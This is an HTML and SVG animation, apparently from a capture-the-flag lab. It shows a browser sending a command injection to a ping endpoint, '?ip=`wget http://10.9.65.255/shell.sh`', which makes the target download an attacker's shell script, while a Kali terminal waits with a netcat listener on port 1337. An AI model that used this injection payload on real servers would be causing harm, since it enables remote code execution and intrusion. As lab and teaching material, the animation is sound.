
Animation of 800 by 417 pixels, one loop 8000 ms. Source, as an HTML page:

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Browser and listener</title>
<style>
  html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #000; }
  svg { display: block; width: 800px; height: 417px; }
  text { font: 8.8px "Open Sans", "Noto Sans", sans-serif; letter-spacing: -.027em; fill: #f2f3f4;
         text-rendering: geometricPrecision; white-space: pre; }
  .bold { font-weight: 700; letter-spacing: -.038em; }
  .title { font-weight: 700; font-size: 8.5px; letter-spacing: -.015em; text-anchor: middle; }
  .page text { font: 9.18px "DejaVu Serif", "Noto Serif", serif; letter-spacing: 0; fill: #000; }
  .term text { font: 8.73px "DejaVu Sans Mono", monospace; letter-spacing: 0; fill: #1fe81f; }
  .term .prompt { font-weight: 700; }
  .dim { fill: #85898c; }
  .line { fill: none; stroke: #e4e6e8; stroke-width: 1.2; }
  .thin { stroke-width: .9; }
  .grey { stroke: #7c8087; }
  .faint { stroke: #484b53; }
</style>
</head>
<body>
<svg viewBox="0 0 800 417">
  <defs>
    <linearGradient id="tabFade" gradientUnits="userSpaceOnUse" x1="98" x2="113" y1="0" y2="0">
      <stop stop-color="#f2f3f4"/><stop offset="1" stop-color="#f2f3f4" stop-opacity="0"/>
    </linearGradient>
    <linearGradient id="longFade" gradientUnits="userSpaceOnUse" x1="325" x2="352" y1="0" y2="0">
      <stop stop-color="#a3a7ab"/><stop offset="1" stop-color="#a3a7ab" stop-opacity="0"/>
    </linearGradient>
    <linearGradient id="shortFade" gradientUnits="userSpaceOnUse" x1="266" x2="292" y1="0" y2="0">
      <stop stop-color="#a3a7ab"/><stop offset="1" stop-color="#a3a7ab" stop-opacity="0"/>
    </linearGradient>
    <linearGradient id="rowFade" gradientUnits="userSpaceOnUse" x1="252" x2="273" y1="0" y2="0">
      <stop stop-color="#fff"/><stop offset="1" stop-color="#fff" stop-opacity="0"/>
    </linearGradient>
    <linearGradient id="shade" x2="0" y2="1">
      <stop stop-opacity=".22"/><stop offset="1" stop-opacity="0"/>
    </linearGradient>
    <clipPath id="field"><rect x="118" y="42" width="221" height="16"/></clipPath>
    <clipPath id="left"><rect width="400" height="417"/></clipPath>
    <g id="buttons">
      <path d="M-23.500 2.500H-18.500M-2-1.700H2V2.300H-2ZM19-2L23 2M23-2L19 2"/>
    </g>
    <path id="cross" d="M-2.500-2.500L2.500 2.500M2.500-2.500L-2.500 2.500"/>
  </defs>

  <g clip-path="url(#left)">
    <!-- page -->
    <rect width="400" height="417" fill="#fefefe"/>
    <g class="page">
      <g data-on="0-3700"><text x="4.500" y="75.500">Invalid ip parameter specified</text></g>
      <g id="output" data-on="3700-8000"></g>
    </g>
    <g data-on="2100-3700">
      <path d="M0 403H120.500Q123.500 403 123.500 406V417H0Z" fill="#1d1e24"/>
      <text x="2" y="413.500">Waiting for 10.10.187.66…</text>
    </g>

    <!-- title and tab bar -->
    <rect width="400" height="20" fill="#15161b"/>
    <path d="M225 2L268 20H292L250 2ZM300 2L322 20H345L330 2Z" fill="#1d1e24"/>
    <rect width="400" height="2" fill="#08080a"/>
    <text class="title" x="200" y="13.500" fill="#fff">Velmora Dunkite</text>
    <use href="#buttons" x="368" y="10.500" class="line" style="stroke-width:1.400"/>
    <rect y="20" width="400" height="19" fill="#1d1f23"/>
    <rect y="20" width="131" height="19" fill="#3f4348"/>
    <rect y="19.500" width="131" height="1.500" fill="#2f7de8"/>
    <text id="tab" y="32" style="fill:url(#tabFade)"></text>
    <circle id="dot" cy="28.500" r="1.300" fill="#c9ccd0"/>
    <use href="#cross" x="121.500" y="28.500" class="line"/>
    <path class="line" d="M141 24V32.500M136.800 28.300H145.200"/>

    <!-- toolbar -->
    <rect y="39" width="400" height="23" fill="#43474c"/>
    <rect y="61.300" width="400" height=".9" fill="#24262a"/>
    <circle cx="11.500" cy="50" r="8.300" fill="#6b6f74" stroke="#85898e" stroke-width=".6"/>
    <path class="line" d="M16 50H7.500M11.300 46L7.300 50L11.300 54"/>
    <path class="line grey" d="M26.500 50H35M31.200 46L35.200 50L31.200 54"/>
    <g data-on="0-1800,3700-8000">
      <path class="line" d="M52.800 47.200A4 4 0 1 0 53.800 51"/>
      <path d="M54 45V49.200H49.800Z" fill="#e4e6e8"/>
    </g>
    <use href="#cross" class="line" transform="translate(50 50) scale(1.400)" data-on="1800-3700"/>
    <path class="line" d="M64 50.300L68.500 45.800L73 50.300M65.500 49.500V54H71.500V49.500M68.500 54V51"/>
    <path class="line" d="M362.500 46.500L366 50L362.500 53.500M366.500 46.500L370 50L366.500 53.500"/>
    <path class="line" d="M385.500 46.800H392.500M385.500 49.800H392.500M385.500 52.800H392.500"/>
    <path d="M379.500 42V58" stroke="#34373b" stroke-width=".8"/>

    <!-- address field -->
    <rect x="99.500" y="41.500" width="254" height="17" rx="2" fill="#2d3035" stroke="#24272b"/>
    <rect x="99.500" y="41.500" width="254" height="17" rx="2" fill="none" stroke="#2f74d6"
          data-on="0-1800,4800-8000"/>
    <g class="line thin" data-on="0-3700,7700-8000">
      <circle cx="107.500" cy="48.800" r="2.800"/><path d="M109.500 51L112.500 54"/>
    </g>
    <g class="line thin" data-on="3700-7700">
      <circle cx="109" cy="50" r="3.700"/><path d="M109 49.300V52.200M109 47.500V48.500"/>
    </g>
    <g data-on="1800-3700">
      <text x="118" y="53">10.10.187.66<tspan fill="url(#longFade)" style="fill:url(#longFade)">:8081/ping?ip=`wget%20http://10.9.65.255/shell.sh`</tspan></text>
    </g>
    <g data-on="3700-4800">
      <text x="118" y="53">10.10.187.66<tspan style="fill:url(#shortFade)">:8081/ping?ip=`wget http://10.9.65.255/shell.sh`</tspan></text>
    </g>
    <g data-on="3700-7700">
      <path class="line thin" d="M325.300 46.200H332.700V49.800Q332 53.300 329 54Q326 53.300 325.300 49.800ZM327.200 49L329 50.800L330.800 49"/>
      <path class="line thin" d="M345 45.300L346.400 48.400L349.700 48.700L347.200 50.900L348 54.200L345 52.500L342 54.200L342.800 50.900L340.300 48.700L343.600 48.400Z"/>
      <path d="M308 50H316.500" stroke="#e4e6e8" stroke-width="2" stroke-dasharray="2 1.250"/>
    </g>
    <path class="line" d="M292 48.500L295.300 51.800L298.600 48.500" data-on="4800-7700"/>
    <path class="line" d="M340.500 50H349M345.500 46.500L349 50L345.500 53.500" data-on="0-1800,7700-8000"/>
    <g clip-path="url(#field)">
      <rect id="mark" y="44" height="12" fill="#62abfb"/>
      <text id="url" y="53"></text>
      <rect id="caret" y="44.500" width=".9" height="11" fill="#fff"/>
    </g>

    <!-- suggestions -->
    <g data-on="0-1800,7800-8000">
      <rect y="123" width="400" height="4" fill="url(#shade)"/>
      <rect y="62" width="400" height="61.500" fill="#54585b"/>
      <rect x="2" y="65" width="396" height="18.500" rx="1.500" fill="#2d74f0"/>
      <g class="line thin">
        <circle cx="109" cy="74.500" r="4.200"/><ellipse cx="109" cy="74.500" rx="1.900" ry="4.200"/>
        <path d="M105 73H113M105 76.300H113"/>
      </g>
      <text x="118" y="77.500">http://<tspan id="hint" class="bold" style="fill:url(#rowFade)"></tspan></text>
      <text x="277" y="77.500">—</text>
      <text x="290.500" y="77.500" style="font-size:7.500px">Visit</text>
      <text x="3" y="97.500" style="fill:#85898c">Search for <tspan id="query" style="fill:#f2f3f4"></tspan> with:</text>
      <path d="M0 103.800H400" stroke="#424649" stroke-width=".8"/>
      <path d="M30.500 107V119M61 107V119M91.500 107V119M122 107V119M152.500 107V119M183 107V119M213.500 107V119M369.500 107V119"
            stroke="#34383b" stroke-width="1"/>
      <circle cx="15.500" cy="113.500" r="4.800" fill="#f4f4f4"/>
      <circle cx="46" cy="113.500" r="4.800" fill="#179a8c"/>
      <rect x="71.500" y="108.800" width="9.500" height="9.500" fill="#f4f4f4"/>
      <circle cx="106.500" cy="113.500" r="4" fill="#7b3247"/>
      <circle cx="137" cy="113.500" r="4.600" fill="#e2562c"/>
      <circle cx="167.500" cy="113.500" r="4.200" fill="#1da1e8"/>
      <rect x="193.500" y="108.800" width="9.500" height="9.500" fill="#f4f4f4"/>
      <circle cx="384.500" cy="113.500" r="2.600" class="line grey"/>
      <circle cx="384.500" cy="113.500" r="4" class="line grey" stroke-dasharray="1.570 1.570"/>
    </g>
  </g>

  <!-- terminal -->
  <rect x="400" width="400" height="417" fill="#000"/>
  <rect x="400" width="400" height="20" fill="#25272f"/>
  <path d="M410 2L448 20H474L430 2ZM476 2L494 20H520L498 2ZM640 2L668 20H690L664 2ZM700 2L716 20H732L722 2Z" fill="#1d1f26"/>
  <rect x="400" width="400" height="2" fill="#0c0d10"/>
  <text class="title" x="599" y="13.500" style="fill:#7d8188">nils@debian: ~</text>
  <use href="#buttons" x="768" y="10.500" class="line grey"/>
  <rect x="400" y="20" width="400" height="21" fill="#1f2128"/>
  <rect x="406" y="20" width="191" height="19" fill="#282b33"/>
  <rect x="406" y="39" width="191" height="2" fill="#2f6fd8"/>
  <text class="title" x="494" y="32.500" style="fill:#868a92">nils@debian: ~</text>
  <text x="692" y="32.500" style="fill:#747880;text-anchor:middle">/bin/bash</text>
  <use href="#cross" x="585.500" y="29.500" class="line faint"/>
  <use href="#cross" x="782.500" y="29.500" class="line faint"/>
  <rect x="792" y="41" width="8" height="376" fill="#24262c"/>
  <rect x="793.500" y="42" width="5" height="372" rx="2.500" fill="#4d5058"/>
  <g class="term">
    <text class="prompt" x="401" y="50">bram@kali:/tmp/ultratech# nc -nvlp 1337</text>
    <text x="401" y="61">listening on [any] 1337 ...</text>
    <rect x="401.500" y="63.500" width="5.500" height="11.500" fill="none" stroke="#1fe81f"/>
  </g>

  <g id="mouse">
    <path id="arrow" d="M0 0V8.500L2 6.700L3.400 9.900L4.900 9.200L3.500 6.200H6.200Z" fill="#111" stroke="#e8e8e8" stroke-width=".6"/>
    <path id="beam" d="M-.800-2Q1-2 1-.500Q1-2 2.800-2M1-.500V6.500M-.800 8Q1 8 1 6.500Q1 8 2.800 8" fill="none" stroke="#e8e8e8" stroke-width="1.100"/>
  </g>
</svg>

<script>
const LOOP = 8000, ENTER = 1800, LOADED = 3700, FOCUS = 4800, TYPE = 7700;
const $ = id => document.getElementById(id);
const set = (id, attrs) => Object.entries(attrs).forEach(([k, v]) => $(id).setAttribute(k, v));
const show = (el, on) => { el.style.display = on ? "" : "none"; };
const write = (id, s) => { if ($(id).textContent !== s) $(id).textContent = s; };

const HEAD = "10.10.187.66:8081/ping?ip=`";
const FULL = HEAD + "wget http://10.9.65.255/shell.sh`";
const TYPED = HEAD + "bshell.sh`";
const indexOf = s => FULL.indexOf(s, HEAD.length);
const WORD = indexOf("shell");

// Keyboard steps inside the address: time, caret index, selecting
const KEYS = [
  [FOCUS, FULL.length], [5700, indexOf("sh`")], [5850, WORD],
  [6100, indexOf("255/"), true], [6250, indexOf("65."), true], [6400, indexOf("9.65"), true],
  [6550, indexOf("10.9"), true], [6900, indexOf("http"), true], [7100, indexOf("wget"), true]
];

const OUTPUT = `--2020-11-28 19:17:33-- http://10.9.65.255/shell.sh Connecting to 10.9.65.255:80...
connected. HTTP request sent, awaiting response... 200 OK Length: 37 [text/x-sh]
Saving to: ‘shell.sh.1’ 0K 100% 8.23K=0.004s 2020-11-28 19:17:34 (8.23 KB/s) -
‘shell.sh.1’ saved [37/37] Usage: ping [-aAbBdDfhLnOqrRUvV64] [-c count] [-i
interval] [-I interface] [-m mark] [-M pmtudisc_option] [-l preload] [-p pattern] [-Q
tos] [-s packetsize] [-S sndbuf] [-t ttl] [-T timestamp_option] [-w deadline] [-W
timeout] [hop1 ...] destination Usage: ping -6 [-aAbBdDfhLnOqrRUvV] [-c count] [-i
interval] [-I interface] [-l preload] [-m mark] [-M pmtudisc_option] [-N
nodeinfo_option] [-p pattern] [-Q tclass] [-s packetsize] [-S sndbuf] [-t ttl] [-T
timestamp_option] [-w deadline] [-W timeout] destination`;
$("output").innerHTML = OUTPUT.split("\n")
  .map((s, i) => `<text x="4.5" y="${75.5 + i * 11.15}">${s}</text>`).join("");

const timed = [...document.querySelectorAll("[data-on]")].map(el =>
  [el, el.dataset.on.split(",").map(span => span.split("-").map(Number))]);

function charX(i) {
  const url = $("url");
  return i < url.getNumberOfChars() ? url.getStartPositionOfChar(i).x
                                    : url.getEndPositionOfChar(i - 1).x;
}

function drawAddress(t) {
  const editing = t >= FOCUS && t < TYPE, typing = t >= TYPE;
  const text = typing ? TYPED : FULL;
  write("hint", text);
  write("query", text);
  write("url", t < ENTER ? FULL.slice(0, -1) : text);
  show($("url"), t < ENTER || t >= FOCUS);
  set("url", { x: typing ? 118 : editing ? 287 : 337, "text-anchor": typing ? "start" : "end" });

  const key = editing ? KEYS.findLast(k => k[0] <= t) : null;
  const selecting = !!key && !!key[2];
  const blinkOff = t >= 5400 && t < 5700;
  show($("mark"), selecting);
  show($("caret"), (editing && !selecting && !blinkOff) || typing);
  if (selecting) {
    const x = charX(key[1]);
    set("mark", { x, width: charX(WORD) - x });
  } else if (editing || typing) {
    set("caret", { x: charX(typing ? HEAD.length + 1 : key[1]) });
  }
}

function drawTab(t) {
  const busy = t >= ENTER && t < LOADED;
  write("tab", "10.10.187.66:8081/ping?ip=");
  set("tab", { x: busy ? 18 : 4.5 });
  show($("dot"), busy);
  set("dot", { cx: 9.8 - 5 * Math.cos((t - ENTER) / 880 * 2 * Math.PI) });
}

function drawMouse(t) {
  const p = Math.min(1, Math.max(0, (t - LOADED) / 600));
  const e = p * p * (3 - 2 * p), y = 53 + 151 * e;
  const beam = t >= ENTER && y < 61;
  set("mouse", { transform: `translate(${257 - 15 * e} ${y})` });
  show($("beam"), beam);
  show($("arrow"), !beam);
}

function draw(now) {
  const t = now % LOOP;
  for (const [el, spans] of timed) show(el, spans.some(([a, b]) => t >= a && t < b));
  drawAddress(t);
  drawTab(t);
  drawMouse(t);
}

const start = performance.now();
function tick() {
  draw(performance.now() - start);
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
